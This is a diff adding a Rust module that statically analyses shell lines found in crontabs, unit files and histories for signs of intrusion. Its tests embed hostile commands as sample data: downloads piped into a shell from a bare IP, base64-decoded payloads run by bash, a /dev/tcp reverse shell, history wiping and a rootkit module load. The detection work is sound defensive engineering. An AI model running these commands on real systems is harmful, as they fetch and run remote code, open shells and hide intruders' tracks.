@@ -1,0 +1,668 @@
+//! What one line of shell text does, as far as it can be read without running it: downloads piped into
+//! a shell, base64 decoding, `/dev/tcp` sockets, bare IPs and URLs it reaches, programs it runs from
+//! temporary or hidden paths, history tampering, kernel module loads and `chattr` locks.
+//!
+//! Used on crontab commands, unit `Exec*=` lines, rc/profile/at scripts and shell histories.
+//! The split is deliberately coarse: it cuts on `| ; & && || ( ) $( \`` and newlines even inside quotes,
+//! so `sh -c 'curl x | sh'` is seen for what it runs. Arguments of commands that only *mention* things
+//! (`pkill`, `kill`, `rm`, `grep`, `sed`, ...) do not count as reaching or running them: a cleanup script
+//! full of rival IOCs is not itself a downloader.
+
+use super::{basename, contains};
+
+/// Downloaders: their presence plus a pipe into a shell is the classic dropper.
+const DOWNLOADERS: &[&[u8]] = &[
+    b"curl",
+    b"wget",
+    b"fetch",
+    b"tftp",
+    b"lwp-download",
+    b"lwp-request",
+    b"GET",
+    b"aria2c",
+    b"axel",
+];
+
+/// Programs that execute what they read on stdin.
+const INTERPRETERS: &[&[u8]] = &[
+    b"sh", b"bash", b"dash", b"zsh", b"ksh", b"ash", b"mksh", b"busybox", b"python", b"python2",
+    b"python3", b"perl", b"php", b"ruby", b"node",
+];
+
+const SHELLS: &[&[u8]] = &[b"sh", b"bash", b"dash", b"zsh", b"ksh", b"ash", b"mksh"];
+
+/// Commands whose arguments name things without running or reaching them.
+const MENTION_ONLY: &[&[u8]] = &[
+    b"pkill", b"kill", b"killall", b"rm", b"unlink", b"grep", b"egrep", b"fgrep", b"sed", b"awk", b"ps",
+    b"netstat", b"ss", b"echo", b"printf", b"chattr", b"lsattr", b"ls", b"cat", b"test", b"[", b"xargs",
+    b"crontab", b"systemctl", b"service", b"pgrep", b"pidof", b"iptables", b"ip6tables", b"ufw", b"tr",
+    b"head", b"tail", b"cut", b"sort", b"uniq", b"wc", b"find", b"mv", b"cp", b"touch", b"mkdir", b"chmod",
+    b"chown", b"docker", b"lsof", b"fuser", b"logger",
+];
+
+/// Wrappers skipped to find the real command.
+const WRAPPERS: &[&[u8]] = &[
+    b"sudo", b"nohup", b"setsid", b"exec", b"command", b"builtin", b"time", b"stdbuf", b"then", b"do", b"else",
+    b"{", b"!", b"if", b"while", b"until", b"eval", b"doas", b"flock",
+];
+
+/// Directories where nothing should be executed from.
+pub const TEMP_DIRS: &[&[u8]] = &[
+    b"/tmp/",
+    b"/var/tmp/",
+    b"/dev/shm/",
+    b"/run/shm/",
+    b"/var/run/",
+    b"/var/lock/",
+    b"/run/lock/",
+];
+
+/// What a line does.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct ShellLine {
+    /// A downloader runs (`curl`, `wget`, ...).
+    pub download: bool,
+    /// A download is piped into, or substituted into, a shell or interpreter.
+    pub download_to_shell: bool,
+    /// A download is saved and then run or made executable in the same line.
+    pub download_then_exec: bool,
+    /// `base64 -d`, `openssl base64 -d`, `b64decode(`.
+    pub base64_decode: bool,
+    /// Decoded data piped into a shell or interpreter.
+    pub decode_to_shell: bool,
+    /// `/dev/tcp/` or `/dev/udp/` (bash sockets: reverse shells and downloaders without curl).
+    pub dev_tcp: bool,
+    /// URLs reached (`http://`, `https://`, `ftp://`, `tftp://`), as written.
+    pub urls: Vec<Vec<u8>>,
+    /// Dotted IPv4 addresses reached (in URLs, `host:port`, `/dev/tcp/IP/PORT` or bare).
+    pub bare_ips: Vec<String>,
+    /// Programs and scripts run (absolute, `~` or relative with `/`; relative ones joined to a prior `cd`).
+    pub executed: Vec<Vec<u8>>,
+    /// Executed paths under a temporary directory ([`TEMP_DIRS`]).
+    pub temp_exec: Vec<Vec<u8>>,
+    /// Executed paths with a hidden component (`.name/`, or a hidden file name).
+    pub hidden_exec: Vec<Vec<u8>>,
+    /// Every absolute or `~` path mentioned anywhere, for the attack graph.
+    pub paths: Vec<Vec<u8>>,
+    /// History tampering seen (`HISTFILE=/dev/null`, `history -c`, `unset HISTFILE`, ...).
+    pub history_tamper: Vec<String>,
+    /// `insmod`/`modprobe` targets.
+    pub module_loads: Vec<Vec<u8>>,
+    /// `chattr +i`/`+a` targets (locking).
+    pub chattr_lock: Vec<Vec<u8>>,
+    /// Every segment's command, by basename, in order (`curl`, `sh`, ...).
+    pub commands: Vec<Vec<u8>>,
+    /// True when every command only mentions things (`pkill`, `rm`, `grep`, ...): a cleanup line.
+    pub mention_only: bool,
+}
+
+impl ShellLine {
+    /// True when nothing in the line is of interest.
+    pub fn is_quiet(&self) -> bool {
+        !(self.download_to_shell
+            || self.download_then_exec
+            || self.base64_decode
+            || self.dev_tcp
+            || !self.bare_ips.is_empty()
+            || !self.temp_exec.is_empty()
+            || !self.hidden_exec.is_empty()
+            || !self.history_tamper.is_empty()
+            || !self.module_loads.is_empty())
+    }
+}
+
+struct Segment {
+    words: Vec<Vec<u8>>,
+    /// Targets of `>`, `>>`, `<` redirections (removed from `words`).
+    redirects: Vec<Vec<u8>>,
+    /// Reads the previous segment's stdout through `|`.
+    piped: bool,
+    /// Started by `$(`, backtick or `<(` : its output is substituted into the previous segment.
+    substituted: bool,
+}
+
+/// Splits a segment's text into words (quotes removed) and redirection targets (fd numbers dropped).
+fn split_words(text: &[u8]) -> (Vec<Vec<u8>>, Vec<Vec<u8>>) {
+    let mut words = Vec::new();
+    let mut redirects = Vec::new();
+    let mut expect_target = false;
+    for raw in super::words(text) {
+        let w: Vec<u8> = raw.iter().copied().filter(|b| *b != b'\'' && *b != b'"').collect();
+        let mut rest: &[u8] = &w;
+        loop {
+            let op = rest.iter().position(|b| *b == b'>' || *b == b'<');
+            let (piece, after) = match op {
+                Some(p) => (rest.get(..p).unwrap_or_default(), Some(p)),
+                None => (rest, None),
+            };
+            if !piece.is_empty() {
+                if expect_target {
+                    redirects.push(piece.to_vec());
+                    expect_target = false;
+                } else if !(after.is_some() && piece.iter().all(u8::is_ascii_digit)) {
+                    words.push(piece.to_vec());
+                }
+            }
+            let Some(p) = after else {
+                break;
+            };
+            let skip = rest
+                .get(p..)
+                .unwrap_or_default()
+                .iter()
+                .take_while(|b| matches!(b, b'>' | b'<'))
+                .count();
+            expect_target = true;
+            rest = rest.get(p + skip..).unwrap_or_default();
+        }
+    }
+    (words, redirects)
+}
+
+/// Cuts the text into simple commands.
+fn segments(text: &[u8]) -> Vec<Segment> {
+    let mut out = Vec::new();
+    let mut cur: Vec<u8> = Vec::new();
+    let mut piped = false;
+    let mut substituted = false;
+    let mut i = 0;
+    let flush = |cur: &mut Vec<u8>, piped: bool, substituted: bool, out: &mut Vec<Segment>| {
+        let (words, redirects) = split_words(cur);
+        out.push(Segment {
+            words,
+            redirects,
+            piped,
+            substituted,
+        });
+        cur.clear();
+    };
+    while let Some(&b) = text.get(i) {
+        let next = text.get(i + 1).copied();
+        let prev = i.checked_sub(1).and_then(|p| text.get(p)).copied();
+        match b {
+            b'|' if next == Some(b'|') => {
+                flush(&mut cur, piped, substituted, &mut out);
+                piped = false;
+                substituted = false;
+                i += 2;
+                continue;
+            }
+            b'|' => {
+                flush(&mut cur, piped, substituted, &mut out);
+                piped = true;
+                substituted = false;
+            }
+            b'&' if prev == Some(b'>') || next == Some(b'>') => cur.push(b' '),
+            b';' | b'&' | b'\n' | b')' | b'}' => {
+                flush(&mut cur, piped, substituted, &mut out);
+                piped = false;
+                substituted = false;
+            }
+            b'(' | b'`' => {
+                let subst = b == b'`' || prev == Some(b'$') || prev == Some(b'<');
+                if prev == Some(b'$') || prev == Some(b'<') {
+                    cur.pop();
+                }
+                flush(&mut cur, piped, substituted, &mut out);
+                piped = false;
+                substituted = subst;
+            }
+            _ => cur.push(b),
+        }
+        i += 1;
+    }
+    flush(&mut cur, piped, substituted, &mut out);
+    out.retain(|s| !s.words.is_empty() || !s.redirects.is_empty());
+    out
+}
+
+fn is_assignment(w: &[u8]) -> bool {
+    match w.iter().position(|b| *b == b'=') {
+        Some(eq) if eq > 0 => w
+            .get(..eq)
+            .is_some_and(|n| n.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')),
+        _ => false,
+    }
+}
+
+/// Index of the real command word in a segment, after assignments and wrappers (`sudo`, `nohup`,
+/// `timeout 10`, `nice -n 5`, `env A=b`, `sh -c`).
+fn command_index(words: &[Vec<u8>]) -> Option<usize> {
+    let mut i = 0;
+    while let Some(w) = words.get(i) {
+        let base = basename(w);
+        if is_assignment(w) {
+            i += 1;
+        } else if WRAPPERS.contains(&base) || base == b"env" {
+            i += 1;
+            while words.get(i).is_some_and(|a| a.starts_with(b"-") || is_assignment(a)) {
+                i += 1;
+            }
+        } else if base == b"timeout" || base == b"nice" || base == b"ionice" || base == b"taskset" {
+            i += 1;
+            while words
+                .get(i)
+                .is_some_and(|a| a.starts_with(b"-") || a.first().is_some_and(u8::is_ascii_digit))
+            {
+                i += 1;
+            }
+        } else if SHELLS.contains(&base) && words.get(i + 1).is_some_and(|a| a.as_slice() == b"-c") {
+            if words.get(i + 2).is_some() {
+                i += 2;
+            } else {
+                return Some(i);
+            }
+        } else if base == b"busybox" && words.get(i + 1).is_some() {
+            i += 1;
+        } else {
+            return Some(i);
+        }
+    }
+    None
+}
+
+/// True for a word that names a path worth following (absolute, home-relative or dot-relative).
+fn is_pathish(w: &[u8]) -> bool {
+    w.starts_with(b"/") || w.starts_with(b"~/") || w.starts_with(b"./") || w.starts_with(b"$HOME/")
+        || (w.contains(&b'/') && w.first().is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'.'))
+            && !w.contains(&b':')
+}
+
+/// True when a path has a hidden component (`/tmp/.X25-unix/x`, `~/.configrc/a/upd`, `/usr/bin/.update`).
+pub fn has_hidden_component(path: &[u8]) -> bool {
+    path.split(|b| *b == b'/')
+        .any(|c| c.len() > 1 && c.starts_with(b".") && c != b"..")
+}
+
+/// True when a path lies under one of [`TEMP_DIRS`].
+pub fn in_temp_dir(path: &[u8]) -> bool {
+    TEMP_DIRS.iter().any(|d| path.starts_with(d))
+}
+
+fn push_unique<T: PartialEq>(v: &mut Vec<T>, x: T) {
+    if !v.contains(&x) && v.len() < 64 {
+        v.push(x);
+    }
+}
+
+/// Analyses one line (or a whole small script) of shell text.
+pub fn analyze(text: &[u8]) -> ShellLine {
+    let text = text.get(..super::MAX_LINE_BYTES).unwrap_or(text);
+    let segs = segments(text);
+    let mut out = ShellLine {
+        mention_only: true,
+        ..ShellLine::default()
+    };
+    let mut cwd: Option<Vec<u8>> = None;
+    // Kinds of the segments so far in the current pipeline: (downloader, decoder).
+    let mut pipeline_has = (false, false);
+    let mut saved_downloads: Vec<Vec<u8>> = Vec::new();
+    let mut pending_shell_subst = false;
+    for seg in &segs {
+        let words = &seg.words;
+        history_checks(seg, &mut out);
+        for r in &seg.redirects {
+            for p in path_words(r) {
+                push_unique(&mut out.paths, p);
+            }
+        }
+        let Some(ci) = command_index(words) else {
+            continue;
+        };
+        let Some(cmd_word) = words.get(ci) else {
+            continue;
+        };
+        let cmd = basename(cmd_word).to_vec();
+        let args = words.get(ci + 1..).unwrap_or_default();
+        push_unique(&mut out.commands, cmd.clone());
+        if !seg.piped {
+            pipeline_has = (false, false);
+        }
+        let is_downloader = DOWNLOADERS.contains(&cmd.as_slice())
+            || (matches!(cmd.as_slice(), b"python" | b"python2" | b"python3" | b"perl" | b"php")
+                && args.iter().any(|a| {
+                    contains(a, b"urllib") || contains(a, b"urlopen") || contains(a, b"LWP") || contains(a, b"requests.get")
+                }));
+        let is_decoder = (cmd == b"base64"
+            && args.iter().any(|a| matches!(a.as_slice(), b"-d" | b"--decode" | b"-D" | b"-di")))
+            || (cmd == b"openssl" && args.iter().any(|a| a == b"base64" || a == b"-base64" || a == b"-a")
+                && args.iter().any(|a| a == b"-d"))
+            || args.iter().any(|a| contains(a, b"b64decode") || contains(a, b"decode_base64"));
+        let mention = MENTION_ONLY.contains(&cmd.as_slice()) && !is_decoder;
+        if !mention {
+            out.mention_only = false;
+        }
+        // Paths mentioned anywhere (graph), IPs/URLs only where reached.
+        for w in words {
+            for p in path_words(w) {
+                push_unique(&mut out.paths, p);
+            }
+        }
+        if !mention {
+            for w in words.iter().chain(seg.redirects.iter()) {
+                scan_reach(w, &mut out);
+            }
+        }
+        if is_downloader {
+            out.download = true;
+            pipeline_has.0 = true;
+            if pending_shell_subst && seg.substituted {
+                out.download_to_shell = true;
+            }
+            let mut it = args.iter();
+            while let Some(a) = it.next() {
+                if matches!(a.as_slice(), b"-o" | b"-O" | b"--output" | b"--output-document") {
+                    if let Some(f) = it.next().filter(|f| f.as_slice() != b"-") {
+                        saved_downloads.push(f.clone());
+                    }
+                }
+            }
+        }
+        if is_decoder {
+            out.base64_decode = true;
+            pipeline_has.1 = true;
+            if pending_shell_subst && seg.substituted {
+                out.decode_to_shell = true;
+            }
+        }
+        let is_interp = INTERPRETERS.contains(&cmd.as_slice());
+        let script_arg = args.iter().find(|a| !a.starts_with(b"-") && !is_assignment(a));
+        if is_interp && seg.piped && script_arg.is_none_or(|a| a.as_slice() == b"-s" || a.as_slice() == b"-") {
+            if pipeline_has.0 {
+                out.download_to_shell = true;
+            }
+            if pipeline_has.1 {
+                out.decode_to_shell = true;
+            }
+        }
+        // `bash -c "$(curl ...)"`, `bash <(curl ...)`, `. <(curl ...)`, `eval "$(...)"`.
+        pending_shell_subst = (is_interp || cmd == b"." || cmd == b"source" || cmd == b"eval")
+            && args.iter().all(|a| a.as_slice() == b"-c" || a.as_slice() == b"<" || a.starts_with(b"-"));
+        if words.first().is_some_and(|w| basename(w) == b"eval") {
+            pending_shell_subst = true;
+        }
+        // `cd DIR` sets the directory relative programs run from.
+        if cmd == b"cd" {
+            cwd = args.first().filter(|d| is_pathish(d)).cloned();
+            continue;
+        }
+        if matches!(cmd.as_slice(), b"insmod" | b"modprobe") {
+            if let Some(m) = args.iter().find(|a| !a.starts_with(b"-")) {
+                push_unique(&mut out.module_loads, m.clone());
+            }
+        }
+        if cmd == b"chattr" || cmd == b"tntrecht" {
+            if args.iter().any(|a| a.starts_with(b"+") && (a.contains(&b'i') || a.contains(&b'a'))) {
+                for a in args.iter().filter(|a| !a.starts_with(b"+") && !a.starts_with(b"-")) {
+                    push_unique(&mut out.chattr_lock, a.clone());
+                }
+            }
+        }
+        if mention && cmd != b"chmod" {
+            continue;
+        }
+        // What runs: the command word when it is a path, the script of an interpreter, the target of
+        // `chmod +x` after a download (download then execute).
+        let mut run: Vec<Vec<u8>> = Vec::new();
+        if cmd == b"chmod" {
+            if args.iter().any(|a| contains(a, b"x") || a.iter().all(u8::is_ascii_digit)) {
+                for a in args.iter().filter(|a| !a.starts_with(b"-") && !a.starts_with(b"+")) {
+                    if saved_downloads.iter().any(|d| d == a) {
+                        out.download_then_exec = true;
+                    }
+                }
+            }
+            continue;
+        }
+        if is_pathish(cmd_word) {
+            run.push(cmd_word.clone());
+        }
+        if is_interp || cmd == b"." || cmd == b"source" {
+            if let Some(s) = script_arg.filter(|a| is_pathish(a) || !a.contains(&b' ')) {
+                if is_pathish(s) || cmd == b"." || cmd == b"source" || saved_downloads.contains(s) {
+                    run.push(s.clone());
+                }
+            }
+        }
+        for r in run {
+            if saved_downloads.iter().any(|d| d == &r || basename(d) == basename(&r)) {
+                out.download_then_exec = true;
+            }
+            let resolved = match &cwd {
+                Some(dir) if !r.starts_with(b"/") && !r.starts_with(b"~") && !r.starts_with(b"$") => {
+                    let rel = r.strip_prefix(b"./").unwrap_or(&r);
+                    [dir.as_slice(), b"/", rel].concat()
+                }
+                _ => r.clone(),
+            };
+            if in_temp_dir(&resolved) {
+                push_unique(&mut out.temp_exec, resolved.clone());
+            }
+            if has_hidden_component(&resolved) {
+                push_unique(&mut out.hidden_exec, resolved.clone());
+            }
+            push_unique(&mut out.executed, resolved);
+        }
+    }
+    if segs.is_empty() {
+        out.mention_only = false;
+    }
+    out
+}
+
+/// Absolute and `~` paths inside a word (`>/tmp/x`, `--config=/root/.x/c.json`).
+fn path_words(w: &[u8]) -> Vec<Vec<u8>> {
+    let mut out = Vec::new();
+    let mut i = 0;
+    while let Some(&b) = w.get(i) {
+        let start_ok = (b == b'/' || (b == b'~' && w.get(i + 1) == Some(&b'/')))
+            && (i == 0 || w.get(i - 1).is_some_and(|p| matches!(p, b'=' | b'>' | b'<' | b':' | b',')));
+        if start_ok {
+            let end = w
+                .get(i..)
+                .unwrap_or_default()
+                .iter()
+                .position(|c| matches!(c, b',' | b';' | b'>' | b'<' | b'|'))
+                .map_or(w.len(), |e| i + e);
+            let p = w.get(i..end).unwrap_or_default();
+            if p.len() > 1 && !p.starts_with(b"//") {
+                out.push(p.to_vec());
+            }
+            i = end.max(i + 1);
+        } else {
+            i += 1;
+        }
+    }
+    out
+}
+
+/// URLs and IPv4 addresses in a word.
+fn scan_reach(w: &[u8], out: &mut ShellLine) {
+    for scheme in [&b"http://"[..], b"https://", b"ftp://", b"tftp://"] {
+        let mut from = 0;
+        while let Some(pos) = w
+            .get(from..)
+            .and_then(|rest| rest.windows(scheme.len()).position(|x| x.eq_ignore_ascii_case(scheme)))
+        {
+            let start = from + pos;
+            let end = w
+                .get(start..)
+                .unwrap_or_default()
+                .iter()
+                .position(|c| c.is_ascii_whitespace() || matches!(c, b'\'' | b'"' | b')' | b'`'))
+                .map_or(w.len(), |e| start + e);
+            push_unique(&mut out.urls, w.get(start..end).unwrap_or_default().to_vec());
+            from = end.max(start + 1);
+        }
+    }
+    if contains(w, b"/dev/tcp/") || contains(w, b"/dev/udp/") {
+        out.dev_tcp = true;
+    }
+    for ip in ipv4s(w) {
+        push_unique(&mut out.bare_ips, ip);
+    }
+}
+
+/// Dotted-quad IPv4 addresses in a word, not part of a longer dotted run (version numbers such as
+/// `1.2.3.4.5`) and not `0.0.0.0`.
+pub fn ipv4s(w: &[u8]) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < w.len() {
+        let boundary_before = i == 0 || w.get(i - 1).is_some_and(|b| !b.is_ascii_digit() && *b != b'.');
+        if !boundary_before || !w.get(i).is_some_and(u8::is_ascii_digit) {
+            i += 1;
+            continue;
+        }
+        let end = w
+            .get(i..)
+            .unwrap_or_default()
+            .iter()
+            .position(|b| !b.is_ascii_digit() && *b != b'.')
+            .map_or(w.len(), |e| i + e);
+        let run = w.get(i..end).unwrap_or_default();
+        let run = run.strip_suffix(b".").unwrap_or(run);
+        if let Ok(text) = std::str::from_utf8(run) {
+            if let Ok(ip) = text.parse::<std::net::Ipv4Addr>() {
+                if !ip.is_unspecified() && text.split('.').all(|p| p.len() <= 3) {
+                    out.push(ip.to_string());
+                }
+            }
+        }
+        i = end.max(i + 1);
+    }
+    out
+}
+
+fn history_checks(seg: &Segment, out: &mut ShellLine) {
+    let words = &seg.words;
+    let mut note = |s: &str| push_unique(&mut out.history_tamper, s.to_owned());
+    for (i, w) in words.iter().enumerate() {
+        let next = words.get(i + 1).map(Vec::as_slice).unwrap_or_default();
+        let w = w.as_slice();
+        let assignment = w.strip_prefix(b"export ").unwrap_or(w);
+        if assignment.starts_with(b"HISTFILE=") && (contains(assignment, b"/dev/null") || assignment.len() == 9) {
+            note("HISTFILE set to /dev/null or empty");
+        }
+        if (assignment.starts_with(b"HISTSIZE=") || assignment.starts_with(b"HISTFILESIZE="))
+            && assignment.ends_with(b"=0")
+        {
+            note("history size set to 0");
+        }
+        if w == b"unset" && contains(next, b"HISTFILE") {
+            note("unset HISTFILE");
+        }
+        if basename(w) == b"history" && next.starts_with(b"-") && next.contains(&b'c') {
+            note("history -c");
+        }
+        if w == b"set" && next == b"+o" && words.get(i + 2).is_some_and(|x| x.as_slice() == b"history") {
+            note("set +o history");
+        }
+    }
+    let cmd = words
+        .iter()
+        .find(|w| !is_assignment(w))
+        .map(|w| basename(w))
+        .unwrap_or(b":");
+    let is_history = |a: &Vec<u8>| contains(a, b"_history") || contains(a, b".history");
+    if words.iter().skip(1).any(is_history) {
+        match cmd {
+            b"rm" | b"shred" | b"unlink" | b"truncate" => note("history file removed or truncated"),
+            b"ln" if words.iter().any(|a| a.as_slice() == b"/dev/null") => {
+                note("history file linked to /dev/null")
+            }
+            _ => {}
+        }
+    }
+    if seg.redirects.iter().any(is_history)
+        && matches!(cmd, b"cat" | b"echo" | b":" | b"true" | b"printf")
+    {
+        note("history file overwritten");
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn kinsing_cron_downloads_into_shell_from_bare_ip() {
+        let s = analyze(b"wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1");
+        assert!(s.download && s.download_to_shell, "{s:?}");
+        assert_eq!(s.bare_ips, vec!["195.3.146.118"]);
+        assert_eq!(s.urls, vec![b"http://195.3.146.118/unk.sh".to_vec()]);
+        assert!(!s.mention_only);
+    }
+
+    #[test]
+    fn substitution_and_sh_c_forms() {
+        assert!(analyze(b"bash -c \"$(curl -fsSL https://x.example/i.sh)\"").download_to_shell);
+        assert!(analyze(b"bash <(wget -qO- http://x/y)").download_to_shell);
+        assert!(analyze(b"/bin/sh -c 'curl -s http://a/b|bash'").download_to_shell);
+        let s = analyze(b"echo Y3VybCBodHRwOi8veC95fHNo | base64 -d | bash");
+        assert!(s.base64_decode && s.decode_to_shell && !s.download_to_shell);
+        assert!(analyze(b"curl -fsSL http://1.2.3.4/x -o /tmp/x && chmod +x /tmp/x && /tmp/x").download_then_exec);
+    }
+
+    #[test]
+    fn health_check_is_quiet() {
+        let s = analyze(b"curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/uuid");
+        assert!(s.download && !s.download_to_shell && s.is_quiet(), "{s:?}");
+        assert!(analyze(b"cd / && run-parts --report /etc/cron.hourly").is_quiet());
+        assert!(analyze(b"[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi").is_quiet());
+    }
+
+    #[test]
+    fn cleanup_lines_only_mention() {
+        let s = analyze(b"pkill -f kdevtmpfsi; rm -rf /tmp/.X25-unix /tmp/kdevtmpfsi; netstat -anp | grep 195.3.146.118 | awk '{print $7}' | xargs kill -9");
+        assert!(s.mention_only, "{s:?}");
+        assert!(s.bare_ips.is_empty() && s.temp_exec.is_empty() && !s.download);
+        assert!(s.paths.contains(&b"/tmp/kdevtmpfsi".to_vec()));
+    }
+
+    #[test]
+    fn temp_and_hidden_execution() {
+        let s = analyze(b"~/.configrc/a/upd>/dev/null 2>&1");
+        assert_eq!(s.hidden_exec, vec![b"~/.configrc/a/upd".to_vec()]);
+        let s = analyze(b"cd /tmp/.X25-unix/.rsync/c && nohup ./aptitude -t 150 >/dev/null &");
+        assert_eq!(s.temp_exec, vec![b"/tmp/.X25-unix/.rsync/c/aptitude".to_vec()]);
+        assert_eq!(s.hidden_exec, s.temp_exec);
+        let s = analyze(b"sh /var/tmp/.x/run.sh");
+        assert_eq!(s.temp_exec, vec![b"/var/tmp/.x/run.sh".to_vec()]);
+        assert!(analyze(b"/usr/bin/.update startup").hidden_exec.len() == 1);
+    }
+
+    #[test]
+    fn history_tampering() {
+        for line in [
+            &b"export HISTFILE=/dev/null"[..],
+            b"unset HISTFILE",
+            b"history -c",
+            b"HISTSIZE=0",
+            b"rm -rf ~/.bash_history",
+            b"ln -sf /dev/null /root/.bash_history",
+            b"cat /dev/null > ~/.bash_history",
+        ] {
+            assert!(!analyze(line).history_tamper.is_empty(), "{}", String::from_utf8_lossy(line));
+        }
+        assert!(analyze(b"echo $HISTFILE").history_tamper.is_empty());
+    }
+
+    #[test]
+    fn ips_are_dotted_quads_only() {
+        assert_eq!(ipv4s(b"http://10.1.2.3:8080/x"), vec!["10.1.2.3"]);
+        assert_eq!(ipv4s(b"/dev/tcp/127.66.0.1/3333"), vec!["127.66.0.1"]);
+        assert!(ipv4s(b"v1.2.3.4.5").is_empty());
+        assert!(ipv4s(b"999.1.1.1").is_empty());
+        assert!(ipv4s(b"0.0.0.0").is_empty());
+        let s = analyze(b"bash -i >& /dev/tcp/127.66.0.1/4444 0>&1");
+        assert!(s.dev_tcp);
+    }
+
+    #[test]
+    fn module_loads_and_chattr() {
+        let s = analyze(b"insmod /tmp/.x/diamorphine.ko; chattr +ia /etc/ld.so.preload");
+        assert_eq!(s.module_loads, vec![b"/tmp/.x/diamorphine.ko".to_vec()]);
+        assert_eq!(s.chattr_lock, vec![b"/etc/ld.so.preload".to_vec()]);
+    }
+}
